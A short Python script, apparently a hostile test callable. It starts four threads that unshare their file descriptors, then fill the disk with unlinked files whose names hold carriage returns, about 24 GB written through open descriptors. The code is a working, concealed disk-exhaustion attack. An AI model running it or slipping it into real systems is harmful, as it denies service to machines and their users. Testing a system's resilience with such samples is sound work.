"""Fills the disk with files without names, through descriptors that only one thread has."""

import ctypes
import os
import threading


def fill():
    number = 436  # close_range, on all machines; 2: CLOSE_RANGE_UNSHARE
    ctypes.CDLL(None).syscall(number, 1000, 2000, 2)
    try:
        for name in range(100):
            file = os.open(f"{name}\r.bin", os.O_RDWR | os.O_CREAT)
            os.unlink(f"{name}\r.bin")
            for _ in range(60):
                os.write(file, bytes(2**20))
    except OSError:
        return


def hostile(*arguments, **options):
    threads = [threading.Thread(target=fill) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return 0
